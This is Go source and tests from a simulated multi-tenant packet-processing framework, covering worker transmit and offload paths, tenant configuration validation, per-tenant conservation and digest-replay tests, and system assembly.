// CPU via the same ProcessOffloaded host closures, charged at the honest CPU
// per-packet element cost.
//
//nba:hotpath
func (w *worker) execChainOnCPU(p *offload.Pending) {
	cm := w.sys.cfg.CostModel
	pctx := &w.cur.pctx
	for _, node := range p.Chain {
		cost := cm.ElementCostOf(node.Elem.Class())
		var cycles simtime.Cycles
		for _, b := range p.Batches {
			b.ForEachLive(func(i int, pkt *packet.Packet) {
				cycles += cost.Cycles(pkt.Length())
			})
			node.Offloadable().ProcessOffloaded(pctx, b)
		}
		if pctx.CostScale != 0 && pctx.CostScale != 1 {
			cycles = simtime.Cycles(float64(cycles) * pctx.CostScale)
		}
		w.cycles += cycles
	}
}

// --- graph.Env implementation ---

// Transmit implements graph.Env, attributing the transmission to the
// current lane's tenant.
//
//nba:hotpath
func (w *worker) Transmit(pkt *packet.Packet) {
	ln := w.cur
	if pkt.Tainted && w.sentinel != nil {
		// Oracle, not behaviour: a corrupted frame reaching TX while the
		// sentinel is armed means quarantine failed to contain it.
		w.sys.cfg.Checker.CorruptLeak(w.now(), w.id, pkt.Seq)
	}
	port := int(pkt.Anno[packet.AnnoOutPort]) % len(w.sys.ports)
	if w.sys.cfg.CaptureTx > 0 && len(w.sys.captured) < w.sys.cfg.CaptureTx {
		//nbalint:allow hotalloc TX capture is a bounded debug facility, off in production runs
		w.sys.captured = append(w.sys.captured, netio.CapturedPacket{
			Time: w.now(),
			Data: append([]byte(nil), pkt.Data()...),
		})
	}
	flen := pkt.OrigLen
	if flen == 0 {
		flen = pkt.Length()
	}
	w.sys.ports[port].Transmit(flen)
	ln.txPackets++
	if w.sys.measuring {
		// Wire bytes stop accruing when arrivals stop (mirroring the port
		// meter's Mark..End window) so drain traffic never inflates the
		// tenant's rate; latency keeps recording through the drain because
		// those packets arrived inside the window.
		if w.now() < w.sys.stopTime {
			ln.txWireBytesMeasured += uint64(flen + sysinfo.WireOverheadBytes)
		}
		ln.latencySkip++
		if ln.latencySkip >= w.sys.cfg.LatencySample {
			ln.latencySkip = 0
			lat := w.now() - pkt.Arrival + w.sys.cfg.CostModel.ExternalRTT
			ln.latency.Record(lat)
			if w.sys.cfg.ALBLatencyBound > 0 {
				ln.recentLat.Record(lat)
			}
		}
	}
	w.pktPool.Put(pkt)
}

// ReleasePacket implements graph.Env.
//
//nba:hotpath
func (w *worker) ReleasePacket(pkt *packet.Packet) { w.pktPool.Put(pkt) }

// GetBatch implements graph.Env.
//
//nba:hotpath
func (w *worker) GetBatch() (*batch.Batch, error) { return w.batchPool.Get() }

// PutBatch implements graph.Env.
//
//nba:hotpath
func (w *worker) PutBatch(b *batch.Batch) {
	b.Reset()
	w.batchPool.Put(b)
}

// Offload implements graph.Env (paper Figure 7: the framework takes over
// batches whose device annotation selects an accelerator), aggregating into
// the current lane so tenants never share a device task.
//
//nba:hotpath
func (w *worker) Offload(head *graph.Node, chain []*graph.Node, resume int, b *batch.Batch) {
	ln := w.cur
	full, err := ln.agg.Add(w.iterStart, head, chain, resume, b)
	if err != nil {
		// Inconsistent aggregate (mixed devices): drop the batch. Counted
		// into splitDropped so conservation still balances.
		b.ForEachLive(func(i int, pkt *packet.Packet) {
			ln.splitDropped++
			w.pktPool.Put(pkt)
		})
		w.PutBatch(b)
		return
	}
	if full != nil {
		w.flush(full)
	}
}

// Charge implements graph.Env.
//
//nba:hotpath
func (w *worker) Charge(c simtime.Cycles) { w.cycles += c }
