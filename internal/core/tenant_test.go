package core

import (
	"testing"

	"nba/internal/gen"
	"nba/internal/invariant"
	"nba/internal/par"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

const (
	ipv6Config = `FromInput() -> CheckIP6Header() -> LookupIP6Route("entries=4096", "seed=42") -> DecIP6HLIM() -> ToOutput();`

	idsConfig = `FromInput() -> CheckIPHeader() -> IDSMatchAC("alert") -> IDSMatchRE("alert") -> EchoBack() -> ToOutput();`
)

// fourTenants is the canonical co-residency mix: all four sample apps on the
// same workers, queues and GPU, with deliberately unequal shares.
func fourTenants() []Tenant {
	return []Tenant{
		{Name: "ipv4", GraphConfig: ipv4Config, Share: 2,
			Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1}},
		{Name: "ipv6", GraphConfig: ipv6Config, Share: 1,
			Generator: &gen.UDP6{FrameLen: 78, Flows: 1024, Seed: 2}},
		{Name: "ipsec", GraphConfig: sprintfConfig(ipsecConfigTpl, "fixed=0.8"), Share: 1,
			Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 3}},
		{Name: "ids", GraphConfig: idsConfig, Share: 0.5,
			Generator: &gen.UDP4{FrameLen: 256, Flows: 1024, Seed: 4}},
	}
}

func fourTenantCfg() Config {
	return Config{
		Topology:          sysinfo.SingleSocketTopology(4, 2), // 3 workers, 2 ports
		Tenants:           fourTenants(),
		OfferedBpsPerPort: 2e9,
		Warmup:            2 * simtime.Millisecond,
		Duration:          6 * simtime.Millisecond,
		Seed:              7,
	}
}

// TestMultiTenantConservationAcrossApps co-hosts all four sample apps and
// requires the conservation identity to hold per tenant AND globally: no
// tenant's loss may hide behind a co-tenant's surplus.
func TestMultiTenantConservationAcrossApps(t *testing.T) {
	ck := invariant.New()
	cfg := fourTenantCfg()
	cfg.Checker = ck
	cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	r := run(t, cfg)

	if len(r.Tenants) != 4 {
		t.Fatalf("got %d tenant reports, want 4", len(r.Tenants))
	}
	if r.RxDelivered != r.TxPackets+r.GraphDrops+r.ShedPackets {
		t.Errorf("global conservation broken: delivered %d != tx %d + graph %d + shed %d",
			r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets)
	}
	var sumRx, sumTx, sumDrop, sumShed uint64
	for i, tr := range r.Tenants {
		if tr.Name != fourTenants()[i].Name {
			t.Errorf("tenant %d: name %q, want %q", i, tr.Name, fourTenants()[i].Name)
		}
		if tr.RxDelivered == 0 || tr.TxPackets == 0 {
			t.Errorf("tenant %s: no traffic (delivered %d, tx %d)", tr.Name, tr.RxDelivered, tr.TxPackets)
		}
		if tr.RxDelivered != tr.TxPackets+tr.GraphDrops+tr.ShedPackets {
			t.Errorf("tenant %s conservation broken: delivered %d != tx %d + graph %d + shed %d",
				tr.Name, tr.RxDelivered, tr.TxPackets, tr.GraphDrops, tr.ShedPackets)
		}
		if tr.Digest == "" {
			t.Errorf("tenant %s: empty trace digest despite an attached tracer", tr.Name)
		}
		sumRx += tr.RxDelivered
		sumTx += tr.TxPackets
		sumDrop += tr.GraphDrops
		sumShed += tr.ShedPackets
	}
	if sumRx != r.RxDelivered || sumTx != r.TxPackets || sumDrop != r.GraphDrops || sumShed != r.ShedPackets {
		t.Errorf("tenant sums (%d/%d/%d/%d) != global (%d/%d/%d/%d): packets changed tenant mid-flight",
			sumRx, sumTx, sumDrop, sumShed, r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets)
	}
	// The higher-share tenants carry higher offered load: ipv4 (share 2)
	// must see roughly 4x the arrivals of ids (share 0.5).
	if r.Tenants[0].RxDelivered+r.Tenants[0].RxDropped <= r.Tenants[3].RxDelivered+r.Tenants[3].RxDropped {
		t.Errorf("share weighting inverted: ipv4 (share 2) saw %d arrivals, ids (share 0.5) %d",
			r.Tenants[0].RxDelivered+r.Tenants[0].RxDropped,
			r.Tenants[3].RxDelivered+r.Tenants[3].RxDropped)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d packets outstanding", r.PoolOutstanding)
	}
	for _, v := range ck.Violations() {
		t.Errorf("invariant violation: %+v", v)
	}
}

// tenantDigests runs the 4-tenant mix and returns (global, per-tenant...)
// digests.
func tenantDigests(t *testing.T) []string {
	t.Helper()
	cfg := fourTenantCfg()
	cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	r := run(t, cfg)
	out := []string{cfg.Tracer.Digest()}
	for _, tr := range r.Tenants {
		out = append(out, tr.Digest)
	}
	return out
}

// TestTenantDigestsStableUnderReplay pins per-tenant attribution to the
// seed: replaying the same multi-tenant run reproduces every tenant's trace
// sub-digest byte-for-byte, co-tenants and all.
func TestTenantDigestsStableUnderReplay(t *testing.T) {
	a := tenantDigests(t)
	b := tenantDigests(t)
	for i := range a {
		if a[i] != b[i] {
			t.Errorf("digest %d diverged across replays:\n%s\n%s", i, a[i], b[i])
		}
	}
	// Distinct tenants must have distinct digests (they trace different
	// apps); identical sub-digests would mean attribution is broken.
	seen := map[string]int{}
	for i, d := range a[1:] {
		if j, dup := seen[d]; dup {
			t.Errorf("tenants %d and %d share a digest %s", j, i, d)
		}
		seen[d] = i
	}
}

// TestTenantDigestsParallelEquivalence runs the same 4-tenant config on 1
// and then 8 concurrent OS threads: a shared-state leak between systems (or
// any wall-clock dependency) would skew the digests.
func TestTenantDigestsParallelEquivalence(t *testing.T) {
	serial := tenantDigests(t)
	results := par.Map(8, 8, func(slot int) []string {
		cfg := fourTenantCfg()
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		sys, err := NewSystem(cfg)
		if err != nil {
			return nil
		}
		r, err := sys.Run()
		if err != nil {
			return nil
		}
		out := []string{cfg.Tracer.Digest()}
		for _, tr := range r.Tenants {
			out = append(out, tr.Digest)
		}
		return out
	})
	for slot, got := range results {
		if got == nil {
			t.Fatalf("slot %d failed to run", slot)
		}
		for i := range serial {
			if got[i] != serial[i] {
				t.Errorf("slot %d digest %d diverged from serial run:\n%s\n%s", slot, i, got[i], serial[i])
			}
		}
	}
}

// TestSingleTenantMatchesLegacyRun is the disarm contract: expressing
// today's single-app config as a one-element Tenants slice must reproduce
// the legacy run bit-for-bit — same trace digest, same report counters.
func TestSingleTenantMatchesLegacyRun(t *testing.T) {
	legacy := quickCfg(ipv4Config, 2e9, 64)
	legacy.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	lr := run(t, legacy)

	tenant := quickCfg("", 2e9, 64)
	tenant.Generator = nil
	tenant.Tenants = []Tenant{{
		Name:        "only",
		GraphConfig: ipv4Config,
		Generator:   &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1},
	}}
	tenant.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	tr := run(t, tenant)

	if a, b := legacy.Tracer.Digest(), tenant.Tracer.Digest(); a != b {
		t.Errorf("single-tenant run diverged from legacy run:\nlegacy %s\ntenant %s", a, b)
	}
	if lr.RxDelivered != tr.RxDelivered || lr.TxPackets != tr.TxPackets ||
		lr.GraphDrops != tr.GraphDrops || lr.ShedPackets != tr.ShedPackets {
		t.Errorf("report counters diverged: legacy %d/%d/%d/%d, tenant %d/%d/%d/%d",
			lr.RxDelivered, lr.TxPackets, lr.GraphDrops, lr.ShedPackets,
			tr.RxDelivered, tr.TxPackets, tr.GraphDrops, tr.ShedPackets)
	}
	if len(tr.Tenants) != 1 || tr.Tenants[0].RxDelivered != tr.RxDelivered {
		t.Errorf("single-tenant report section wrong: %+v", tr.Tenants)
	}
	// Explicit tenancy arms a per-tenant digest; it must match across
	// replays but is additional to — not part of — the global digest.
	if tr.Tenants[0].Digest == "" {
		t.Error("single explicit tenant has no per-tenant digest")
	}
}

// TestTenantConfigValidation pins the Tenants/GraphConfig contract.
func TestTenantConfigValidation(t *testing.T) {
	base := func() Config {
		cfg := fourTenantCfg()
		return cfg
	}
	cases := []struct {
		name   string
		mutate func(*Config)
	}{
		{"both GraphConfig and Tenants", func(c *Config) { c.GraphConfig = ipv4Config }},
		{"duplicate tenant names", func(c *Config) { c.Tenants[1].Name = "ipv4" }},
		{"negative share", func(c *Config) { c.Tenants[0].Share = -1 }},
		{"negative rate scale", func(c *Config) { c.Tenants[0].RateScale = -0.5 }},
		{"missing generator", func(c *Config) {
			c.Tenants[2].Generator = nil
			c.Generator = nil
		}},
		{"generator changes with tenants", func(c *Config) {
			c.GeneratorChanges = []GeneratorChange{{At: simtime.Millisecond, Generator: &gen.UDP4{FrameLen: 64, Flows: 2, Seed: 9}}}
		}},
	}
	for _, tc := range cases {
		cfg := base()
		tc.mutate(&cfg)
		if _, err := NewSystem(cfg); err == nil {
			t.Errorf("%s: NewSystem accepted an invalid config", tc.name)
		}
	}
	// Tenants without an own generator inherit Config.Generator.
	cfg := base()
	cfg.Tenants[2].Generator = nil
	cfg.Generator = &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 3}
	if _, err := NewSystem(cfg); err != nil {
		t.Errorf("generator inheritance rejected: %v", err)
	}
}
