// Package core assembles the NBA framework: worker threads running
// replicated run-to-completion pipelines over RSS-partitioned RX queues,
// device threads driving the accelerators, the offload aggregation path,
// and the adaptive load-balancing control loop (paper §3, Figures 3 and 6).
package core

import (
	"fmt"

	"nba/internal/batch"
	"nba/internal/fault"
	"nba/internal/graph"
	"nba/internal/integrity"
	"nba/internal/invariant"
	"nba/internal/netio"
	"nba/internal/overload"
	"nba/internal/reconfig"
	"nba/internal/sched"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// Tenant is one hosted application in a multi-tenant run: its own pipeline
// graph, a weighted share of the machine's offered load and batch priority,
// and an optional tail-latency objective. All tenants share the workers, NIC
// RX queues (carved tenant-major) and accelerators of the one simulated box.
type Tenant struct {
	// Name identifies the tenant in reports, NodeStats keys and invariant
	// messages. Defaults to "t<index>"; must be unique.
	Name string
	// GraphConfig is the tenant's pipeline in the NBA configuration
	// language. Required.
	GraphConfig string
	// Share is the tenant's weight, normalised over the tenant set: it is
	// both the tenant's fraction of OfferedBpsPerPort and its weighted
	// round-robin batch-priority weight on every worker. 0 selects 1.
	Share float64
	// RateScale scales the tenant's own offered load relative to its fair
	// share (a noisy neighbour offering 2x its share has RateScale 2,
	// without shrinking the victims' nominal rates). 0 selects 1.
	RateScale float64
	// Generator produces this tenant's traffic; nil inherits
	// Config.Generator.
	Generator netio.Generator
	// SLOP999, when positive, is the tenant's p99.9 end-to-end latency
	// objective; the per-tenant report records whether it was met.
	SLOP999 simtime.Time
}

// RateChange alters the offered load mid-run (workload-shift experiments).
type RateChange struct {
	At         simtime.Time
	BpsPerPort float64
}

// GeneratorChange swaps the traffic generator mid-run (the paper's §3.4
// scenario: the adaptive balancer must find a new convergence point when
// the workload changes). The offered wire rate is preserved: the packet
// rate is recomputed for the new generator's frame-size mix.
type GeneratorChange struct {
	At        simtime.Time
	Generator netio.Generator
}

// Config describes one system run.
type Config struct {
	// Topology is the simulated machine; nil selects the paper's default.
	Topology *sysinfo.Topology
	// CostModel is the calibration; nil selects sysinfo.Default().
	CostModel *sysinfo.CostModel
	// GraphConfig is the pipeline in the NBA configuration language.
	// Required unless Tenants is set (the two are mutually exclusive).
	GraphConfig string
	// Tenants, when non-empty, hosts one app graph per tenant on the same
	// workers, queues and devices (multi-tenant mode). A single-tenant
	// entry behaves bit-identically to the equivalent GraphConfig run —
	// the disarm contract — and an empty slice is classic single-app mode.
	Tenants []Tenant
	// Placement decides which same-socket accelerator runs a tenant's
	// offloaded aggregates; nil selects sched.Static (annotation k →
	// device k-1, today's behaviour). Interference-aware policies from the
	// Pythia space plug in here.
	Placement sched.PlacementPolicy
	// GraphOpts toggles branch prediction / offload chaining (ablations);
	// nil selects graph.DefaultOptions().
	GraphOpts *graph.Options

	// WorkersPerSocket <= Topology.MaxWorkersPerSocket(); 0 = maximum.
	WorkersPerSocket int

	// Generator produces traffic. Required unless every tenant supplies
	// its own.
	Generator netio.Generator
	// OfferedBpsPerPort is the offered wire rate per port.
	OfferedBpsPerPort float64
	// RateChanges optionally shift the offered load mid-run.
	RateChanges []RateChange
	// GeneratorChanges optionally swap the traffic mix mid-run.
	// Single-tenant runs only: with multiple tenants each tenant owns its
	// generator and a global swap would be ambiguous.
	GeneratorChanges []GeneratorChange

	// IOBatchSize is the RX burst size (paper default 64).
	IOBatchSize int
	// CompBatchSize is the computation batch size (paper default 64).
	CompBatchSize int

	// Warmup is excluded from measurement; Duration is the measured span.
	Warmup   simtime.Time
	Duration simtime.Time

	// Seed drives all run randomness (LB coin flips, etc.).
	Seed uint64

	// PacketPoolPerWorker / BatchPoolPerWorker size the mempools.
	PacketPoolPerWorker int
	BatchPoolPerWorker  int

	// MaxInflightTasks bounds outstanding device tasks per worker; beyond
	// it the worker stops polling RX (backpressure → NIC drops), like a
	// real system out of pinned buffers.
	MaxInflightTasks int

	// ALBObserve / ALBUpdate control the adaptive load balancer cadence
	// (paper: 0.2 s updates over smoothed throughput).
	ALBObserve simtime.Time
	ALBUpdate  simtime.Time
	// ALBLatencyBound, when positive, switches adaptive balancing to the
	// bounded-latency variant (paper §7): maximise throughput subject to
	// p99 latency <= bound.
	ALBLatencyBound simtime.Time

	// LatencySample records every Nth transmitted packet (1 = all).
	LatencySample int

	// CaptureTx, when positive, records the first N transmitted frames
	// (with virtual timestamps) into Report.Capture for pcap export.
	CaptureTx int

	// Tracer, when non-nil, records the run's structured event stream
	// (engine dispatch, element batches, GPU phases, LB updates, NIC
	// rx/drop). nil disables tracing with zero hot-path cost.
	Tracer *trace.Tracer

	// FaultPlan, when non-nil, is the scripted fault timeline injected into
	// the run (device fail/hang/slowdown, RX-queue flaps, rate bursts). The
	// plan is part of the run's identity: the same configuration + seed +
	// plan reproduce the same trace digest.
	FaultPlan *fault.Plan

	// Reconfig, when non-nil and non-empty, is the scripted runtime
	// reconfiguration timeline: tenant admits/evicts, share retunes, device
	// hot-(un)plug and RX-queue resizes, each applied through the epoch
	// drain-and-handoff protocol. Like FaultPlan, the plan is part of the
	// run's identity (same configuration + seed + plan reproduce the same
	// trace digest), and a nil or empty plan leaves the event timeline —
	// and therefore every golden digest — byte-identical.
	// Requires explicit-tenant mode (Tenants non-empty).
	Reconfig *reconfig.Plan

	// LatentTenants are tenants that do not exist at run start but may be
	// admitted by a Reconfig tenant.admit event, which references them by
	// Name. They receive the same default-filling and validation as
	// Tenants; names must be unique across both sets. Latent tenants never
	// touched by the plan cost nothing at runtime (their graphs are
	// pre-built once for validation, outside the engine).
	LatentTenants []Tenant

	// Checker, when non-nil, is the invariant oracle threaded through the
	// run: dispatch monotonicity, GPU phase ordering and utilization, ALB
	// bounds and collapse-on-outage, RX-queue accounting, mempool drain and
	// packet conservation are verified as the run executes, and violations
	// are collected instead of panicking (the chaos driver needs runs to
	// finish). Attaching a checker also arms the drain watchdog (see
	// DrainGrace), so it perturbs the event timeline; golden-trace runs
	// must not attach one.
	Checker *invariant.Checker

	// DrainGrace bounds how long past the end of arrivals the run may keep
	// draining before the watchdog declares it stuck, records a drain.stuck
	// violation and force-stops the engine. 0 selects the default (1 virtual
	// second) when a Checker is attached; negative disables the watchdog.
	// Without a Checker the watchdog is armed only when DrainGrace > 0.
	DrainGrace simtime.Time

	// Overload, when non-nil, arms the end-to-end overload-control
	// subsystem: the bounded device task queue (admission → CPU rescue or
	// shed), saturation backpressure on RX polling, the CoDel sojourn
	// shedder and the per-socket degradation governor. Nil disables all of
	// it — no extra engine events, no behavioural change — so pre-overload
	// event timelines and golden trace digests are unchanged.
	Overload *overload.Config

	// Integrity, when non-nil, arms the silent-corruption detection
	// subsystem: sentinel re-execution of a sampled fraction of offloaded
	// aggregates, quarantine of mismatched batches, and per-device EWMA
	// escalation (ALB demotion, then fail-stop with a recovery probe). Nil
	// disables all of it — no extra engine events, no behavioural change —
	// so pre-integrity event timelines and golden trace digests are
	// unchanged.
	Integrity *integrity.Config

	// TaskTimeout is the worker-side completion timeout for offloaded
	// tasks: a task not completed within it is re-executed on the CPU (the
	// rescue path for hung devices). 0 selects the default (5 ms, far above
	// any healthy completion latency); negative disables the timeout.
	TaskTimeout simtime.Time

	// ForceRemoteMemory emulates placing packet buffers on the remote
	// socket: every element cost is inflated by the cost model's
	// NUMAPenalty (paper §2: remote-socket memory costs 20-30% throughput).
	// Used by the NUMA ablation bench.
	ForceRemoteMemory bool
}

// withDefaults validates and fills defaults, returning a copy.
func (c Config) withDefaults() (Config, error) {
	if c.Topology == nil {
		c.Topology = sysinfo.DefaultTopology()
	}
	if err := c.Topology.Validate(); err != nil {
		return c, err
	}
	if c.CostModel == nil {
		c.CostModel = sysinfo.Default()
	}
	if err := c.CostModel.Validate(); err != nil {
		return c, err
	}
	if len(c.Tenants) > 0 {
		if c.GraphConfig != "" {
			return c, fmt.Errorf("core: GraphConfig and Tenants are mutually exclusive")
		}
		if len(c.GeneratorChanges) > 0 && len(c.Tenants) > 1 {
			return c, fmt.Errorf("core: GeneratorChanges are single-tenant only")
		}
		// Fill tenant defaults on copies so the caller's slices are untouched.
		c.Tenants = append([]Tenant(nil), c.Tenants...)
		c.LatentTenants = append([]Tenant(nil), c.LatentTenants...)
		names := make(map[string]bool, len(c.Tenants)+len(c.LatentTenants))
		fill := func(t *Tenant, defName string) error {
			if t.GraphConfig == "" {
				return fmt.Errorf("core: tenant %s: GraphConfig is required", defName)
			}
			if t.Name == "" {
				t.Name = defName
			}
			if names[t.Name] {
				return fmt.Errorf("core: duplicate tenant name %q", t.Name)
			}
			names[t.Name] = true
			if t.Share < 0 {
				return fmt.Errorf("core: tenant %s: negative Share", t.Name)
			}
			if t.Share == 0 {
				t.Share = 1
			}
			if t.RateScale < 0 {
				return fmt.Errorf("core: tenant %s: negative RateScale", t.Name)
			}
			if t.RateScale == 0 {
				t.RateScale = 1
			}
			if t.Generator == nil {
				t.Generator = c.Generator
			}
			if t.Generator == nil {
				return fmt.Errorf("core: tenant %s: no Generator (set one on the tenant or on the Config)", t.Name)
			}
			return nil
		}
		for i := range c.Tenants {
			if err := fill(&c.Tenants[i], fmt.Sprintf("t%d", i)); err != nil {
				return c, err
			}
		}
		for i := range c.LatentTenants {
			if err := fill(&c.LatentTenants[i], fmt.Sprintf("l%d", i)); err != nil {
				return c, err
			}
		}
	} else {
		if c.GraphConfig == "" {
			return c, fmt.Errorf("core: GraphConfig is required")
		}
		if c.Generator == nil {
			return c, fmt.Errorf("core: Generator is required")
		}
	}
	if c.Placement == nil {
		c.Placement = sched.Static{}
	}
	max := c.Topology.MaxWorkersPerSocket()
	if c.WorkersPerSocket == 0 {
		c.WorkersPerSocket = max
	}
	if c.WorkersPerSocket < 1 || c.WorkersPerSocket > max {
		return c, fmt.Errorf("core: WorkersPerSocket %d out of [1,%d]", c.WorkersPerSocket, max)
	}
	if c.IOBatchSize == 0 {
		c.IOBatchSize = 64
	}
	if c.CompBatchSize == 0 {
		c.CompBatchSize = 64
	}
	if c.CompBatchSize > batch.MaxBatchSize || c.IOBatchSize > batch.MaxBatchSize {
		return c, fmt.Errorf("core: batch sizes exceed %d", batch.MaxBatchSize)
	}
	if c.CompBatchSize < 1 || c.IOBatchSize < 1 {
		return c, fmt.Errorf("core: batch sizes must be positive")
	}
	if c.Duration == 0 {
		c.Duration = 50 * simtime.Millisecond
	}
	if c.Warmup == 0 {
		c.Warmup = 10 * simtime.Millisecond
	}
	if c.PacketPoolPerWorker == 0 {
		c.PacketPoolPerWorker = 12288
	}
	if c.BatchPoolPerWorker == 0 {
		c.BatchPoolPerWorker = 512
	}
	if c.MaxInflightTasks == 0 {
		c.MaxInflightTasks = 2
	}
	if c.ALBObserve == 0 {
		c.ALBObserve = 2 * simtime.Millisecond
	}
	if c.ALBUpdate == 0 {
		c.ALBUpdate = 10 * simtime.Millisecond
	}
	if c.LatencySample == 0 {
		c.LatencySample = 1
	}
	if c.OfferedBpsPerPort <= 0 {
		return c, fmt.Errorf("core: OfferedBpsPerPort must be positive")
	}
	if c.GraphOpts == nil {
		opts := graph.DefaultOptions()
		c.GraphOpts = &opts
	}
	if c.TaskTimeout == 0 {
		c.TaskTimeout = 5 * simtime.Millisecond
	}
	if c.Overload != nil {
		oc := c.Overload.WithDefaults()
		c.Overload = &oc
	}
	if c.Integrity != nil {
		ic := c.Integrity.WithDefaults()
		if err := ic.Validate(); err != nil {
			return c, err
		}
		c.Integrity = ic
	}
	if c.DrainGrace == 0 && c.Checker != nil {
		c.DrainGrace = simtime.Second
	}
	if c.FaultPlan != nil {
		nqueues := c.WorkersPerSocket
		if len(c.Tenants) > 0 {
			// Multi-tenant ports carve one queue per (tenant, worker).
			nqueues *= len(c.Tenants)
		}
		if err := c.FaultPlan.Validate(len(c.Topology.Devices), len(c.Topology.Ports), nqueues); err != nil {
			return c, err
		}
	}
	if c.Reconfig != nil && len(c.Reconfig.Events) > 0 {
		if len(c.Tenants) == 0 {
			return c, fmt.Errorf("core: Reconfig requires explicit-tenant mode (set Tenants)")
		}
		initial := make([]string, len(c.Tenants))
		for i, t := range c.Tenants {
			initial[i] = t.Name
		}
		latent := make([]string, len(c.LatentTenants))
		for i, t := range c.LatentTenants {
			latent[i] = t.Name
		}
		if err := c.Reconfig.Validate(initial, latent, len(c.Topology.Devices), len(c.Topology.Ports)); err != nil {
			return c, err
		}
		if c.DrainGrace == 0 {
			// An armed reconfig plan needs bounded epoch drains even in
			// checkerless record runs; default to the watchdog's grace.
			c.DrainGrace = simtime.Second
		}
	} else if len(c.LatentTenants) > 0 {
		return c, fmt.Errorf("core: LatentTenants without a Reconfig plan to admit them")
	}
	return c, nil
}
