package core

import (
	"fmt"
	"math"

	"nba/internal/conflang"
	"nba/internal/element"
	"nba/internal/fault"
	"nba/internal/gpu"
	"nba/internal/lb"
	"nba/internal/netio"
	"nba/internal/overload"
	"nba/internal/rng"
	"nba/internal/simtime"
	"nba/internal/stats"
	"nba/internal/trace"
)

// System is one assembled NBA instance on the virtual clock.
type System struct {
	cfg Config
	eng *simtime.Engine

	ports       []*netio.Port
	devices     []*gpu.Device // parallel to cfg.Topology.Devices
	workers     []*worker
	nodeLocals  []*element.NodeLocal // per socket
	controllers []*lb.Controller     // per socket (nil if no LB state)
	governors   []*overload.Governor // per socket; empty when Overload is nil

	parsed *conflang.Config

	stopTime  simtime.Time // warmup + duration
	measuring bool

	// Current offered-load state, composed by rate changes, generator
	// changes and fault-injected rate bursts (factor over the nominal rate).
	curBps     float64
	curGen     netio.Generator
	rateFactor float64

	tailMarkBytes []uint64
	tailMarkTime  simtime.Time
	tailEndBytes  []uint64

	captured []netio.CapturedPacket
}

// NewSystem builds a system from the configuration.
func NewSystem(cfg Config) (*System, error) {
	cfg, err := cfg.withDefaults()
	if err != nil {
		return nil, err
	}
	s := &System{cfg: cfg, eng: simtime.NewEngine()}
	s.stopTime = cfg.Warmup + cfg.Duration
	if tr, ck := cfg.Tracer, cfg.Checker; tr != nil || ck != nil {
		s.eng.OnFire = func(at simtime.Time, fired uint64) {
			if tr != nil {
				tr.Emit(at, trace.KindDispatch, -1, "", int64(fired), 0, 0, 0)
			}
			ck.OnDispatch(at)
		}
	}
	s.tailMarkBytes = make([]uint64, len(cfg.Topology.Ports))
	s.tailEndBytes = make([]uint64, len(cfg.Topology.Ports))

	s.parsed, err = conflang.Parse(cfg.GraphConfig)
	if err != nil {
		return nil, err
	}

	top := cfg.Topology
	for socket := 0; socket < top.Sockets; socket++ {
		s.nodeLocals = append(s.nodeLocals, element.NewNodeLocal())
	}

	// Devices (one device thread per device, on a dedicated core).
	for i, d := range top.Devices {
		dev, err := gpu.New(d.Name, d.Kind, s.eng, cfg.CostModel, top.CoreFreqHz, cfg.WorkersPerSocket)
		if err != nil {
			return nil, fmt.Errorf("core: device %d: %w", i, err)
		}
		dev.Tracer = cfg.Tracer
		dev.TraceActor = int32(i)
		dev.Checker = cfg.Checker
		if cfg.Overload != nil {
			dev.QueueDepth = cfg.Overload.DeviceQueueDepth
		}
		s.devices = append(s.devices, dev)
	}

	// Ports with one RX queue per same-socket worker (RSS).
	for _, hw := range top.Ports {
		pps := netio.OfferedPPS(cfg.OfferedBpsPerPort, cfg.Generator)
		port := netio.NewPort(hw, cfg.WorkersPerSocket, cfg.Generator, pps, top.RxQueueCapacity)
		for _, q := range port.Rx {
			q.SetStop(s.stopTime)
			q.Tracer = cfg.Tracer
			q.Checker = cfg.Checker
		}
		s.ports = append(s.ports, port)
	}

	// Workers: WorkersPerSocket per socket, each with a replicated graph.
	id := 0
	for socket := 0; socket < top.Sockets; socket++ {
		localPorts := top.PortsOnSocket(socket)
		localDevs := top.DevicesOnSocket(socket)
		for wi := 0; wi < cfg.WorkersPerSocket; wi++ {
			w, err := newWorker(s, id, socket, wi, localPorts, localDevs)
			if err != nil {
				return nil, err
			}
			s.workers = append(s.workers, w)
			id++
		}
	}

	// Adaptive load balancer controllers, one per socket that has shared
	// LB state (created by LoadBalance elements during Configure).
	for socket := 0; socket < top.Sockets; socket++ {
		if st, ok := s.nodeLocals[socket].Get(lb.StateKey).(*lb.State); ok && st.AdaptiveUsers > 0 {
			ctl := lb.NewController(st)
			ctl.Bound = cfg.ALBLatencyBound
			ctl.Tracer = cfg.Tracer
			ctl.TraceNow = s.eng.Now
			ctl.TraceActor = int32(socket)
			ctl.Checker = cfg.Checker
			s.controllers = append(s.controllers, ctl)
		} else {
			s.controllers = append(s.controllers, nil)
		}
	}

	// Overload governors, one per socket when overload control is armed.
	if cfg.Overload != nil {
		for socket := 0; socket < top.Sockets; socket++ {
			s.governors = append(s.governors, overload.NewGovernor(*cfg.Overload))
		}
	}

	return s, nil
}

// overloadLevel returns the socket's current governor level, LevelNormal
// when overload control is disabled.
func (s *System) overloadLevel(socket int) overload.Level {
	if socket >= len(s.governors) {
		return overload.LevelNormal
	}
	return s.governors[socket].Level()
}

// Engine exposes the virtual clock (for tests and the bench harness).
func (s *System) Engine() *simtime.Engine { return s.eng }

// Controllers returns the per-socket adaptive controllers (nil entries for
// sockets without LB state).
func (s *System) Controllers() []*lb.Controller { return s.controllers }

// deviceFor resolves a batch's device annotation (1 = first local device)
// for a worker's socket.
func (s *System) deviceFor(socket, anno int) (*gpu.Device, error) {
